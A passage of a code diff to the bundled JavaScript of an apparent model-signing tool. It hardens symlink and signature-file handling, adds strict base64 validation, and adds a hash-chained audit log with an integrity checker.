+    if (st3.isSymbolicLink()) {
+      if (!allowSymlinks) return { code: "SYMLINK_REFUSED", path: name, message: "signed path goes through a symlink" };
+      viaLink = true;
+    }
   }
-  return { code: "FILE_MISSING", path: name, message: "signed file is missing" };
+  let abs = cur;
+  if (viaLink) {
+    try {
+      abs = await realpath2(cur);
+    } catch {
+      return { code: "SYMLINK_BROKEN", path: name, message: "symlink target does not exist" };
+    }
+    const rootReal = await realpath2(root);
+    if (!abs.startsWith(rootReal.endsWith(path2.sep) ? rootReal : rootReal + path2.sep)) {
+      return { code: "SYMLINK_OUTSIDE", path: name, message: "signed path goes through a symlink out of the model" };
+    }
+  }
+  let st2;
+  try {
+    st2 = await lstat2(abs);
+  } catch {
+    return missing;
+  }
+  if (!st2.isFile()) return { code: "SPECIAL_FILE", path: name, message: "signed path is not a regular file" };
+  return { name, abs, size: st2.size, viaLink: false, id: { dev: st2.dev, ino: st2.ino } };
 }
 function effectiveIgnores(model, signaturePath, signed, user) {
   const out2 = new Set([...DEFAULT_IGNORES, ...signed ?? [], ...user].map(normaliseIgnorePath));
@@ -17275,12 +17309,16 @@ function effectiveIgnores(model, signaturePath, signed, user) {
   if (rel && !rel.startsWith("..") && !path2.isAbsolute(rel)) out2.add(rel.split(path2.sep).join("/"));
   return [...out2].filter((p2) => p2 !== "" && p2 !== ".");
 }
+function specialModelIsRejection(e) {
+  if (e instanceof ModelsignError && e.code === "SPECIAL_FILE") throw reject("SPECIAL_FILE", e.message);
+  throw e;
+}
 async function checkFiles(input) {
   const { serialization: ser } = input;
   const failures = [];
   const ignores = effectiveIgnores(input.model, input.signaturePath, ser.ignore_paths, input.ignorePaths);
   const pre = input.listing || !input.source ? void 0 : await input.source(sourceRequest(input, ignores));
-  const listing = input.listing ?? pre?.listing ?? await enumerateModel(input.model, { ignorePaths: ignores, allowSymlinks: ser.allow_symlinks });
+  const listing = input.listing ?? pre?.listing ?? await enumerateModel(input.model, { ignorePaths: ignores, allowSymlinks: ser.allow_symlinks }).catch(specialModelIsRejection);
   const onDisk = new Map(listing.files.map((f2) => [f2.name, f2]));
   const byFile = /* @__PURE__ */ new Map();
   for (const r of input.resources) {
@@ -17348,7 +17386,7 @@ async function checkFiles(input) {
       }
     }
     for (const r of ranges) {
-      tasks.push({ abs: f2.abs, start: r.start, end: r.end, expectSize: f2.size, followLink: f2.viaLink });
+      tasks.push({ abs: f2.abs, start: r.start, end: r.end, expectSize: f2.size, followLink: f2.viaLink, ...f2.id ? { expectId: f2.id } : {} });
       taskRanges.push({ file: name, range: r });
     }
   }
@@ -17402,6 +17440,7 @@ function sourceRequest(input, ignorePaths) {
 var init_files = __esm({
   "src/verify/files.ts"() {
     "use strict";
+    init_errors();
     init_algorithms2();
     init_engine();
     init_enumerate();
@@ -17435,9 +17474,9 @@ var init_npy = __esm({
 
 // src/scan/detect.ts
 function ext(name) {
-  const base = name.slice(name.lastIndexOf("/") + 1).toLowerCase();
-  const i = base.lastIndexOf(".");
-  return i <= 0 ? "" : base.slice(i);
+  const base2 = name.slice(name.lastIndexOf("/") + 1).toLowerCase();
+  const i = base2.lastIndexOf(".");
+  return i <= 0 ? "" : base2.slice(i);
 }
 function looksLikeOldPickle(head) {
   const t = head.toString("latin1");
@@ -18137,9 +18176,9 @@ function decodeRawUnicode(line) {
       const n = t[i + 1] === "u" ? 4 : 8;
       const hex = t.slice(i + 2, i + 2 + n);
       if (!new RegExp(`^[0-9a-fA-F]{${n}}$`).test(hex)) return void 0;
-      const cp = parseInt(hex, 16);
-      if (cp > 1114111) return void 0;
-      out2 += String.fromCodePoint(cp);
+      const cp2 = parseInt(hex, 16);
+      if (cp2 > 1114111) return void 0;
+      out2 += String.fromCodePoint(cp2);
       i += 1 + n;
     } else out2 += t[i];
   }
@@ -18153,9 +18192,9 @@ async function walkPickles(src, opts) {
   const { limits } = opts;
   const imports = /* @__PURE__ */ new Map();
   const findings = [];
-  const base = { file: opts.file, ...opts.member !== void 0 ? { member: opts.member } : {} };
+  const base2 = { file: opts.file, ...opts.member !== void 0 ? { member: opts.member } : {} };
   const add = (severity, code, message, offset, global) => {
-    findings.push({ ...base, code, severity, message, ...offset !== void 0 ? { offset } : {}, ...global !== void 0 ? { global } : {} });
+    findings.push({ ...base2, code, severity, message, ...offset !== void 0 ? { offset } : {}, ...global !== void 0 ? { global } : {} });
   };
   let opcodes = 0;
   let pickles = 0;
@@ -18186,7 +18225,7 @@ ${name}`;
   const used = (v2, use) => {
     if (v2 && (v2.k === "global" || v2.k === "obj")) record(v2.g, void 0, use);
   };
-  const str2 = (b2, enc) => {
+  const str3 = (b2, enc) => {
     if (b2.length > MAX_KEPT_STRING || stringBytes + b2.length > limits.maxStringBytes) return LONGSTR;
     stringBytes += b2.length;
     if (enc === "latin1") return { k: "str", s: b2.toString("latin1") };
@@ -18228,7 +18267,7 @@ ${name}`;
         return LONGSTR;
       }
       if (src.buffered < n) await src.ensure(n);
-      return str2(Buffer.from(fixed(n)), enc);
+      return str3(Buffer.from(fixed(n)), enc);
     };
     const skipBytes = async (n) => {
       if (src.buffered >= n) src.take(n);
@@ -18333,7 +18372,7 @@ ${name}`;
           const l = await line("STRING");
           const s3 = decodeQuoted(l);
           if (s3 === void 0) throw new Malformed("STRING argument is not a quoted string");
-          push(str2(Buffer.from(s3, "latin1"), "latin1"));
+          push(str3(Buffer.from(s3, "latin1"), "latin1"));
           break;
         }
         case 84: {
@@ -19882,17 +19921,25 @@ var init_metadata = __esm({
 });
 
 // src/util/base64.ts
+function isStrictBase64(s3) {
+  if (s3.length % 4 !== 0) return false;
+  const pad = s3.endsWith("==") ? 2 : s3.endsWith("=") ? 1 : 0;
+  for (let i = 0; i < s3.length - pad; i++) {
+    const c = s3.charCodeAt(i);
+    const ok = c >= 65 && c <= 90 || c >= 97 && c <= 122 || c >= 48 && c <= 57 || c === 43 || c === 47;
+    if (!ok) return false;
+  }
+  return true;
+}
 function decodeBase64(s3, what, code = "SIG_MALFORMED") {
   const clean5 = s3.replace(/\s+/g, "");
-  if (!B64.test(clean5)) throw reject(code, `${what} is not valid base64`);
+  if (!isStrictBase64(clean5)) throw reject(code, `${what} is not valid base64`);
   return Buffer.from(clean5, "base64");
 }
-var B64;
 var init_base64 = __esm({
   "src/util/base64.ts"() {
     "use strict";
     init_errors();
-    B64 = /^(?:[A-Za-z0-9+/]{4})*(?:[A-Za-z0-9+/]{2}==|[A-Za-z0-9+/]{3}=)?$/;
   }
 });
 
@@ -19911,7 +19958,8 @@ var init_dsse = __esm({
 });
 
 // src/oms/bundle.ts
-import { open as open3 } from "node:fs/promises";
+import { constants as constants3 } from "node:fs";
+import { lstat as lstat3, open as open3, stat as stat3 } from "node:fs/promises";
 function buildBundle(input) {
   const verificationMaterial = "publicKeyHint" in input.material ? { publicKey: { hint: input.material.publicKeyHint }, tlogEntries: [] } : { x509CertificateChain: { certificates: input.material.certificates.map((c) => ({ rawBytes: c.toString("base64") })) }, tlogEntries: [] };
   return {
@@ -19927,23 +19975,38 @@ function buildBundle(input) {
 function serializeBundle(bundle) {
   return JSON.stringify(bundle, null, 2) + "\n";
 }
-async function readBundleFile(file, maxBytes = MAX_BUNDLE_BYTES) {
-  let fh;
-  try {
-    fh = await open3(file, "r");
-  } catch (e) {
+async function readBundleFile(file, maxBytes = MAX_BUNDLE_BYTES, opts = {}) {
+  const notFound = (e) => {
     const c = errnoCode(e);
     if (c === "ENOENT") throw reject("SIG_MISSING", `signature file not found: ${file}`);
-    if (c === "EISDIR") throw usage("SIG_UNREADABLE", `signature path is a directory: ${file}`);
     throw reject("SIG_UNREADABLE", `cannot read signature file ${file}: ${c ?? String(e)}`);
+  };
+  const lst = await lstat3(file).catch(notFound);
+  if (lst.isSymbolicLink() && opts.noFollow) {
+    throw reject("SIG_UNREADABLE", `signature file is a symlink, not followed: ${file} (name the signature with --signature to use it)`);
+  }
+  const st2 = lst.isSymbolicLink() ? await stat3(file).catch(notFound) : lst;
+  if (st2.isDirectory()) throw usage("SIG_UNREADABLE", `signature path is a directory: ${file}`);
+  if (!st2.isFile()) throw reject("SIG_UNREADABLE", `signature is not a regular file: ${file}`);
+  if (st2.size > maxBytes) throw reject("SIG_TOO_LARGE", `signature file is larger than ${maxBytes} bytes: ${file}`);
+  let fh;
+  try {
+    fh = await open3(file, constants3.O_RDONLY | (constants3.O_NONBLOCK ?? 0) | (opts.noFollow ? constants3.O_NOFOLLOW ?? 0 : 0));
+  } catch (e) {
+    return notFound(e);
   }
   try {
-    const st2 = await fh.stat();
-    if (!st2.isFile()) throw reject("SIG_UNREADABLE", `signature is not a regular file: ${file}`);
-    if (st2.size > maxBytes) throw reject("SIG_TOO_LARGE", `signature file is larger than ${maxBytes} bytes: ${file}`);
-    const buf = Buffer.alloc(st2.size);
-    const { bytesRead } = await fh.read(buf, 0, st2.size, 0);
-    return buf.subarray(0, bytesRead);
+    const fst = await fh.stat();
+    if (!fst.isFile()) throw reject("SIG_UNREADABLE", `signature is not a regular file: ${file}`);
+    if (fst.size > maxBytes) throw reject("SIG_TOO_LARGE", `signature file is larger than ${maxBytes} bytes: ${file}`);
+    const buf = Buffer.alloc(fst.size);
+    let got = 0;
+    while (got < buf.length) {
+      const { bytesRead } = await fh.read(buf, got, buf.length - got, got);
+      if (bytesRead === 0) break;
+      got += bytesRead;
+    }
+    return buf.subarray(0, got);
   } finally {
     await fh.close();
   }
@@ -20046,7 +20109,7 @@ function planResources(files, method, shardSize) {
   return out2;
 }
 function taskFor(p2) {
-  return { abs: p2.file.abs, start: p2.start, end: p2.end, expectSize: p2.file.size, followLink: p2.file.viaLink };
+  return { abs: p2.file.abs, start: p2.start, end: p2.end, expectSize: p2.file.size, followLink: p2.file.viaLink, ...p2.file.id ? { expectId: p2.file.id } : {} };
 }
 async function hashResources(plans, alg, opts = {}) {
   const outcomes = await hashTasks(plans.map(taskFor), alg, opts);
@@ -23051,8 +23114,8 @@ __export(archive_exports, {
   isArchivePath: () => isArchivePath,
   scanArchive: () => scanArchive
 });
-import { constants as constants3 } from "node:fs";
-import { open as open4, stat as stat3 } from "node:fs/promises";
+import { constants as constants4 } from "node:fs";
+import { open as open4, stat as stat4 } from "node:fs/promises";
 import path6 from "node:path";
 function isArchivePath(p2) {
   return ARCHIVE_RE.test(p2);
@@ -23060,7 +23123,7 @@ function isArchivePath(p2) {
 async function archiveSourceFor(model) {
   if (!isArchivePath(model)) return void 0;
   try {
-    if (!(await stat3(model)).isFile()) return void 0;
+    if (!(await stat4(model)).isFile()) return void 0;
   } catch {
   }
   return (req) => scanArchive(model, req);
@@ -23104,7 +23167,7 @@ async function scanArchive(file, req, opts = {}) {
 async function openArchive(file) {
   let fh;
   try {
-    fh = await open4(file, constants3.O_RDONLY | (constants3.O_NONBLOCK ?? 0));
+    fh = await open4(file, constants4.O_RDONLY | (constants4.O_NONBLOCK ?? 0));
   } catch (e) {
     const c = errnoCode(e);
     throw usage("MODEL_NOT_FOUND", c === "ENOENT" ? `model not found: ${file}` : `cannot read archive ${file}: ${c ?? String(e)}`);
@@ -23535,9 +23598,9 @@ var init_names = __esm({
 // src/verify/pipeline.ts
 import path7 from "node:path";
 async function defaultSignaturePath(model) {
-  const { stat: stat6 } = await import("node:fs/promises");
+  const { stat: stat8 } = await import("node:fs/promises");
   try {
-    if ((await stat6(model)).isDirectory()) return path7.join(model, "model.sig");
+    if ((await stat8(model)).isDirectory()) return path7.join(model, "model.sig");
   } catch {
   }
   return `${model}.sig`;
@@ -23579,7 +23642,7 @@ async function verifyModel(opts) {
     extra: {}
   };
   try {
-    const bundle = parseBundle(await readBundleFile(signature));
+    const bundle = parseBundle(await readBundleFile(signature, void 0, { noFollow: opts.signature === void 0 }));
     const signer = await checkTrust(bundle, opts.trust);
     result.signerInfo = signer;
     result.signer = signer.description;
@@ -23629,9 +23692,9 @@ async function verifyModel(opts) {
 }
 async function modelSource(opts, resources, method) {
   if (opts.listing) return {};
-  const base = path7.basename(opts.model);
+  const base2 = path7.basename(opts.model);
   const fileOf = (n) => method === "shards" ? parseShardName(n)?.path ?? n : n;
-  if (!opts.source && resources.length > 0 && resources.every((r) => fileOf(r.name) === "." || fileOf(r.name) === base)) return {};
+  if (!opts.source && resources.length > 0 && resources.every((r) => fileOf(r.name) === "." || fileOf(r.name) === base2)) return {};
   const { archiveSourceFor: archiveSourceFor2 } = await Promise.resolve().then(() => (init_archive(), archive_exports));
   const source = opts.source ?? await archiveSourceFor2(opts.model);
   return source ? { source } : {};
@@ -23696,6 +23759,12 @@ async function digestModel(opts) {
     const more = listing.problems.length > 1 ? ` (and ${listing.problems.length - 1} more)` : "";
     throw usage(p2.code, `${p2.path ?? opts.model}: ${p2.message}${more}`, p2.path);
   }
+  const nameProblems = listing.isFile ? [] : checkResourceNames(listing.files.map((f2) => f2.name));
+  if (nameProblems.length > 0) {
+    const p2 = nameProblems[0];
+    const more = nameProblems.length > 1 ? ` (and ${nameProblems.length - 1} more)` : "";
+    throw usage(p2.code, `${JSON.stringify(p2.path)}: ${p2.message.replace(" in signature", "")}${more}`, p2.path);
+  }
   await prepareAlgorithm(hash);
   const plans = planResources(listing.files, method, opts.shardSize);
   const resources = pre ? plans.map((p2) => {
@@ -23709,8 +23778,8 @@ async function digestModel(opts) {
   return { listing, serialization, resources, rootDigest: rootDigest(resources) };
 }
 function defaultModelName(model) {
-  const base = path8.basename(path8.resolve(model));
-  return base.replace(/\.(tar\.gz|tgz|tar)$/i, "") || "model";
+  const base2 = path8.basename(path8.resolve(model));
+  return base2.replace(/\.(tar\.gz|tgz|tar)$/i, "") || "model";
 }
 function checkVersion(version) {
   if (!import_semver4.default.valid(version)) throw usage("BAD_VERSION", `--version must be a semantic version like 1.2.0 (got "${version}")`);
@@ -23769,14 +23838,15 @@ var init_sign = __esm({
     init_dsse();
     init_statement();
     init_pipeline();
+    init_names();
     init_version();
   }
 });
 
 // src/lineage/store.ts
-import { constants as constants4 } from "node:fs";
+import { constants as constants5 } from "node:fs";
 import { createHash as createHash4 } from "node:crypto";
-import { lstat as lstat3, mkdir, open as open5, opendir, stat as stat4 } from "node:fs/promises";
+import { lstat as lstat4, mkdir, open as open5, opendir, stat as stat5 } from "node:fs/promises";
 import path9 from "node:path";
 function bundleDigestOf(bytes) {
   return `sha256:${createHash4("sha256").update(bytes).digest("hex")}`;
@@ -23784,7 +23854,7 @@ function bundleDigestOf(bytes) {
 async function openStore(dir) {
   let st2;
   try {
-    st2 = await stat4(dir);
+    st2 = await stat5(dir);
   } catch (e) {
     throw usage("LINEAGE_STORE_UNREADABLE", `lineage store ${dir} not found (${errnoCode(e) ?? String(e)})`);
   }
@@ -23794,7 +23864,7 @@ async function openStore(dir) {
 async function readStoreFile(file) {
   let fh;
   try {
-    fh = await open5(file, constants4.O_RDONLY | constants4.O_NOFOLLOW | constants4.O_NONBLOCK);
+    fh = await open5(file, constants5.O_RDONLY | constants5.O_NOFOLLOW | constants5.O_NONBLOCK);
   } catch (e) {
     const c = errnoCode(e);
     if (c === "ENOENT" || c === "ELOOP" || c === "EISDIR" || c === "ENXIO") return void 0;
@@ -23822,13 +23892,13 @@ async function recordBundle(dir, meta, bytes) {
     throw usage("WRITE_FAILED", `cannot create lineage store ${dir}: ${errnoCode(e) ?? String(e)}`);
   }
   const hex = bareHex(meta.rootDigest);
-  const base = `${safeName(meta.name)}@${safeName(meta.version)}.${hex}`;
+  const base2 = `${safeName(meta.name)}@${safeName(meta.version)}.${hex}`;
   const digest = bundleDigestOf(bytes);
-  for (const name of [`${base}.sig`, `${base}.${digest.slice(7, 23)}.sig`]) {
+  for (const name of [`${base2}.sig`, `${base2}.${digest.slice(7, 23)}.sig`]) {
     const file = path9.join(dir, name);
     let st2;
     try {
-      st2 = await lstat3(file);
+      st2 = await lstat4(file);
     } catch (e) {
       if (errnoCode(e) !== "ENOENT") throw usage("WRITE_FAILED", `cannot read ${file}: ${errnoCode(e) ?? String(e)}`);
     }
@@ -23841,7 +23911,7 @@ async function recordBundle(dir, meta, bytes) {
     await writeAtomic(file, bytes);
     return { file, added: true };
   }
-  throw usage("WRITE_FAILED", `lineage store ${dir} already holds different bundles named ${base}.*`);
+  throw usage("WRITE_FAILED", `lineage store ${dir} already holds different bundles named ${base2}.*`);
 }
 var MAX_STORE_ENTRIES, MAX_CANDIDATES, MAX_STORE_READ_BYTES, ENTRY_RE, LineageStore;
 var init_store = __esm({
@@ -24191,7 +24261,7 @@ async function walkLineage(opts) {
     node.verified = node.failure === null;
     node.datasets = vb.lineage?.datasets ?? [];
     record();
-    const path14 = new Set(onPath).add(link.rootDigest);
+    const path18 = new Set(onPath).add(link.rootDigest);
     const nextBelow = new Map(below);
     const prev = nextBelow.get(vb.name);
     if (prev === void 0 || prev !== null && import_semver7.default.lt(vb.version, prev)) nextBelow.set(vb.name, vb.version);
@@ -24203,7 +24273,7 @@ async function walkLineage(opts) {
         }
         break;
       }
-      node.parents.push(await visit(p2, node, depth + 1, path14, nextBelow));
+      node.parents.push(await visit(p2, node, depth + 1, path18, nextBelow));
     }
     return node;
   };
@@ -24285,7 +24355,7 @@ __export(state_exports, {
   recordVerified: () => recordVerified,
   serializeState: () => serializeState
 });
-import { open as open6, readFile as readFile3, rename as rename2, stat as stat5, unlink as unlink2, writeFile as writeFile3 } from "node:fs/promises";
+import { open as open6, readFile as readFile3, rename as rename2, stat as stat6, unlink as unlink2, writeFile as writeFile3 } from "node:fs/promises";
 import path10 from "node:path";
 function bad3(file, msg) {
   throw reject("STATE_CORRUPT", `state file ${file} is corrupt (${msg}); refusing to guess the highest version`);
@@ -24342,7 +24412,7 @@ async function acquireLock(lock, timeoutMs, staleMs) {
       if (c !== "EEXIST") throw usage("STATE_UNREADABLE", `cannot create lock file ${lock}: ${c ?? String(e)}`);
     }
     try {
-      const st2 = await stat5(lock);
+      const st2 = await stat6(lock);
       if (Date.now() - st2.mtimeMs > staleMs) {
         const aside = `${lock}.${process.pid}.${Date.now()}.stale`;
         await rename2(lock, aside).then(() => unlink2(aside)).catch(() => void 0);
@@ -24540,11 +24610,152 @@ var init_lineage = __esm({
   }
 });
 
+// src/audit/record.ts
+import { createHash as createHash5 } from "node:crypto";
+function lineHash(line) {
+  return createHash5("sha256").update(line).digest("hex");
+}
+function formatRecord(d, seq, prev, tool) {
+  const unique = [...new Set(d.failureCodes)].slice(0, MAX_CODES);
+  const rec = {
+    v: AUDIT_FORMAT_VERSION,
+    seq,
+    time: d.time,
+    model: d.model,
+    signature: d.signature,
+    rootDigest: d.rootDigest,
+    name: d.name,
+    version: d.version,
+    signer: d.signer,
+    policy: d.policy,
+    purpose: d.purpose,
+    result: d.result,
+    failureCount: d.failureCodes.length,
+    failures: unique,
+    tool,
+    prev
+  };
+  return JSON.stringify(rec);
+}
+var AUDIT_FORMAT_VERSION, GENESIS, MAX_LINE_BYTES, MAX_CODES;
+var init_record = __esm({
+  "src/audit/record.ts"() {
+    "use strict";
+    AUDIT_FORMAT_VERSION = 1;
+    GENESIS = "0".repeat(64);
+    MAX_LINE_BYTES = 1024 * 1024;
+    MAX_CODES = 100;
+  }
+});
+
+// src/audit/append.ts
+var append_exports = {};
+__export(append_exports, {
+  appendAudit: () => appendAudit
+});
+import { constants as constants6 } from "node:fs";
+import { open as open7, stat as stat7, unlink as unlink3, writeFile as writeFile4 } from "node:fs/promises";
+async function withLock(file, fn) {
+  const lock = `${file}.lock`;
+  const deadline = Date.now() + LOCK_WAIT_MS;
+  for (; ; ) {
+    try {
+      await writeFile4(lock, `${process.pid}
+`, { flag: "wx", mode: 384 });
+      break;
+    } catch (e) {
+      if (errnoCode(e) !== "EEXIST") throw usage("AUDIT_WRITE_FAILED", `cannot lock audit log ${file}: ${errnoCode(e) ?? String(e)}`);
+      const st2 = await stat7(lock).catch(() => void 0);
+      if (st2 && Date.now() - st2.mtimeMs > STALE_MS) {
+        await unlink3(lock).catch(() => void 0);
+        continue;
+      }
+      if (Date.now() > deadline) throw usage("AUDIT_WRITE_FAILED", `audit log ${file} is locked by another process (${lock})`);
+      await new Promise((r) => setTimeout(r, 20));
+    }
+  }
+  try {
+    return await fn();
+  } finally {
+    await unlink3(lock).catch(() => void 0);
+  }
+}
+async function readTail(file) {
+  let fh;
+  try {
+    fh = await open7(file, constants6.O_RDONLY | (constants6.O_NONBLOCK ?? 0));
+  } catch (e) {
+    if (errnoCode(e) === "ENOENT") return { last: void 0, endsWithNewline: true, lastSeq: 0 };
+    throw usage("AUDIT_WRITE_FAILED", `cannot read audit log ${file}: ${errnoCode(e) ?? String(e)}`);
+  }
+  try {
+    const st2 = await fh.stat();
+    if (!st2.isFile()) throw usage("AUDIT_WRITE_FAILED", `audit log is not a regular file: ${file}`);
+    if (st2.size === 0) return { last: void 0, endsWithNewline: true, lastSeq: 0 };
+    const len = Math.min(st2.size, MAX_LINE_BYTES + 2);
+    const buf = Buffer.alloc(len);
+    const { bytesRead } = await fh.read(buf, 0, len, st2.size - len);
+    const tail = buf.subarray(0, bytesRead);
+    const endsWithNewline = tail[tail.length - 1] === 10;
+    const body = endsWithNewline ? tail.subarray(0, tail.length - 1) : tail;
+    const nl = body.lastIndexOf(10);
+    if (nl < 0 && st2.size > len) throw usage("AUDIT_WRITE_FAILED", `audit log ${file}: last line is longer than ${MAX_LINE_BYTES} bytes`);
+    const last = body.subarray(nl + 1);
+    let lastSeq = 0;
+    try {
+      const seq = JSON.parse(last.toString("utf8")).seq;
+      if (typeof seq === "number" && Number.isSafeInteger(seq)) lastSeq = seq;
+    } catch {
+    }
+    return { last, endsWithNewline, lastSeq };
+  } finally {
+    await fh.close();
+  }
+}
+async function appendAudit(file, decision) {
+  return withLock(file, async () => {
+    const tail = await readTail(file);
+    const prev = tail.last === void 0 ? GENESIS : lineHash(tail.last);
+    const line = formatRecord(decision, tail.lastSeq + 1, prev, `modelsign/${TOOL_VERSION}`);
+    if (Buffer.byteLength(line) > MAX_LINE_BYTES) throw usage("AUDIT_WRITE_FAILED", "audit record too large");
+    const data = Buffer.from(`${tail.endsWithNewline ? "" : "\n"}${line}
+`, "utf8");
+    let fh;
+    try {
+      fh = await open7(file, constants6.O_WRONLY | constants6.O_APPEND | constants6.O_CREAT, 384);
+    } catch (e) {
+      throw usage("AUDIT_WRITE_FAILED", `cannot open audit log ${file}: ${errnoCode(e) ?? String(e)}`);
+    }
+    try {
+      const { bytesWritten } = await fh.write(data, 0, data.length);
+      if (bytesWritten !== data.length) throw usage("AUDIT_WRITE_FAILED", `short write to audit log ${file}`);
+      await fh.sync();
+    } catch (e) {
+      if (e instanceof Error && e.name === "ModelsignError") throw e;
+      throw usage("AUDIT_WRITE_FAILED", `cannot write audit log ${file}: ${errnoCode(e) ?? String(e)}`);
+    } finally {
+      await fh.close();
+    }
+    return line;
+  });
+}
+var LOCK_WAIT_MS, STALE_MS;
+var init_append = __esm({
+  "src/audit/append.ts"() {
+    "use strict";
+    init_errors();
+    init_version();
+    init_record();
+    LOCK_WAIT_MS = 1e4;
+    STALE_MS = 3e4;
+  }
+});
+
 // src/scan/tar.ts
 import { createReadStream as createReadStream2, createWriteStream } from "node:fs";
 import { mkdtemp, rm } from "node:fs/promises";
 import os3 from "node:os";
-import path11 from "node:path";
+import path12 from "node:path";
 import { once } from "node:events";
 function isTarName(p2) {
   return /\.(tar|tar\.gz|tgz)$/i.test(p2);
@@ -24563,12 +24774,12 @@ async function spool(src, dest) {
 async function scanTar(archive, limits) {
   const reports = [];
   const findings = [];
-  const base = path11.basename(archive);
+  const base2 = path12.basename(archive);
   let tmp;
   let chain = Promise.resolve();
   let failure;
   const handle = async (entry) => {
-    const name = `${base}:${entry.path}`;
+    const name = `${base2}:${entry.path}`;
     if (entry.type !== "File" && entry.type !== "OldFile" && entry.type !== "ContiguousFile") {
       if (entry.type === "SymbolicLink" || entry.type === "Link") {
         findings.push({ code: "SCAN_SKIPPED", severity: "medium", file: name, message: `${entry.type === "Link" ? "hard link" : "symlink"} to ${JSON.stringify(entry.linkpath ?? "")} is not scanned` });
@@ -24589,8 +24800,8 @@ async function scanTar(archive, limits) {
         await src.drain();
         return;
       }
-      tmp ??= await mkdtemp(path11.join(os3.tmpdir(), "modelsign-scan-"));
-      const dest = path11.join(tmp, "member.zip");
+      tmp ??= await mkdtemp(path12.join(os3.tmpdir(), "modelsign-scan-"));
+      const dest = path12.join(tmp, "member.zip");
       await spool(src, dest);
       try {
         reports.push(report(name, entry.size, await scanZip(dest, entry.size, name, limits)));
@@ -24623,7 +24834,7 @@ async function scanTar(archive, limits) {
     try {
       await done;
     } catch (e) {
-      findings.push({ code: "TAR_MALFORMED", severity: "high", file: base, message: `archive cannot be read: ${e.message}` });
+      findings.push({ code: "TAR_MALFORMED", severity: "high", file: base2, message: `archive cannot be read: ${e.message}` });
     }
     await chain;
     if (failure) throw failure;
@@ -24643,8 +24854,8 @@ var init_tar = __esm({
 });
 
 // src/scan/scan-path.ts
-import { lstat as lstat4 } from "node:fs/promises";
-import path12 from "node:path";
+import { lstat as lstat5 } from "node:fs/promises";
+import path13 from "node:path";
 function summarise(target, files, extra, failOn = "low") {
   const findings = [...extra, ...files.flatMap((f2) => f2.findings)].sort((a, b2) => severityRank(b2.severity) - severityRank(a.severity));
   const clean5 = !findings.some((f2) => severityRank(f2.severity) >= severityRank(failOn));
@@ -24654,7 +24865,7 @@ async function scanPath(target, opts = {}) {
   const limits = { ...DEFAULT_LIMITS, ...opts.limits };
   let st2;
   try {
-    st2 = await lstat4(target);
+    st2 = await lstat5(target);
   } catch (e) {
     throw usage("SCAN_NOT_FOUND", errnoCode(e) === "ENOENT" ? `no such file or directory: ${target}` : `cannot read ${target}: ${errnoCode(e) ?? String(e)}`);
   }
@@ -24662,7 +24873,7 @@ async function scanPath(target, opts = {}) {
     const r = await scanTar(target, limits);
     return summarise(target, r.reports, r.findings, opts.failOn);
   }
-  if (st2.isFile()) return summarise(target, [await scanFile(target, path12.basename(target), limits)], [], opts.failOn);
+  if (st2.isFile()) return summarise(target, [await scanFile(target, path13.basename(target), limits)], [], opts.failOn);
   if (!st2.isDirectory() && !st2.isSymbolicLink()) throw usage("SPECIAL_FILE", `not a file, directory or archive: ${target}`);
   const listing = await enumerateModel(target, { ignorePaths: [], allowSymlinks: false, maxFiles: limits.maxFiles });
   if (listing.isFile) {
@@ -24693,9 +24904,502 @@ var init_scan_path = __esm({
   }
 });
 
+// src/audit/check.ts
+import { constants as constants7 } from "node:fs";
+import { open as open8 } from "node:fs/promises";
+function lineProblem(line, lineNo, expectPrev) {
+  let text;
+  try {
+    text = UTF8.decode(line);
+  } catch {
+    return "not UTF-8";
+  }
+  if (text.length === 0) return "empty line";
+  let rec;
+  try {
+    rec = parseStrictJson(text, { what: "audit record", code: "AUDIT_CHAIN_BROKEN", maxDepth: 8 });
+  } catch (e) {
+    return e.message;
+  }
+  if (!isObject(rec)) return "not a JSON object";
+  if (rec.v !== AUDIT_FORMAT_VERSION) return `unknown record version ${JSON.stringify(rec.v)}`;
+  if (typeof rec.prev !== "string" || !/^[0-9a-f]{64}$/.test(rec.prev)) return 'no valid "prev" hash';
+  if (rec.prev !== expectPrev) {
+    return lineNo === 1 ? "first line does not start the chain (lines before it were removed, or it was edited)" : `"prev" does not match the SHA-256 of line ${lineNo - 1} (line ${lineNo - 1} was edited, or lines were removed, inserted or reordered here)`;
+  }
+  if (rec.seq !== lineNo) return `sequence number ${JSON.stringify(rec.seq)}, expected ${lineNo}`;
+  if (typeof rec.time !== "string" || typeof rec.model !== "string") return "missing time or model";
+  if (typeof rec.result !== "string" || !RESULTS.has(rec.result)) return `unknown result ${JSON.stringify(rec.result)}`;
+  if (!Array.isArray(rec.failures) || !rec.failures.every((c) => typeof c === "string")) return "failures must be a list of codes";
+  if (rec.result === "verified" && rec.failures.length > 0) return "a verified decision with failures";
+  return void 0;
+}
+async function checkAuditLog(file, opts = {}) {
+  let fh;
+  try {
+    fh = await open8(file, constants7.O_RDONLY | (constants7.O_NONBLOCK ?? 0));
+  } catch (e) {
+    const c = errnoCode(e);
+    throw usage("AUDIT_UNREADABLE", c === "ENOENT" ? `audit log not found: ${file}` : `cannot read audit log ${file}: ${c ?? String(e)}`);
+  }
+  const report2 = { intact: true, file, records: 0, head: null, firstBadLine: null, reason: null };
+  const anchor = opts.anchor?.replace(/^sha256:/, "").toLowerCase();
+  let anchorFound = false;
+  const fail = (lineNo, reason) => {
+    report2.intact = false;
+    report2.firstBadLine = lineNo;
+    report2.reason = reason;
+    return report2;
+  };
+  try {
+    const st2 = await fh.stat();
+    if (!st2.isFile()) throw usage("AUDIT_UNREADABLE", `audit log is not a regular file: ${file}`);
+    const chunk = Buffer.alloc(4 * 1024 * 1024);
+    let pending = Buffer.alloc(0);
+    let pos = 0;
+    let lineNo = 0;
+    let prev = GENESIS;
+    for (; ; ) {
+      const { bytesRead } = await fh.read(chunk, 0, chunk.length, pos);
+      if (bytesRead === 0) break;
+      pos += bytesRead;
+      let data = Buffer.concat([pending, chunk.subarray(0, bytesRead)]);
+      let nl;
+      while ((nl = data.indexOf(10)) >= 0) {
+        const line = data.subarray(0, nl);
+        data = data.subarray(nl + 1);
+        lineNo++;
+        if (line.length > MAX_LINE_BYTES) return fail(lineNo, `line longer than ${MAX_LINE_BYTES} bytes`);
+        const why = lineProblem(line, lineNo, prev);
+        if (why) return fail(lineNo, why);
+        prev = lineHash(line);
+        report2.records = lineNo;
+        report2.head = prev;
+        if (anchor !== void 0 && prev === anchor) anchorFound = true;
+      }
+      if (data.length > MAX_LINE_BYTES) return fail(lineNo + 1, `line longer than ${MAX_LINE_BYTES} bytes`);
+      pending = Buffer.from(data);
+    }
+    if (pending.length > 0) {
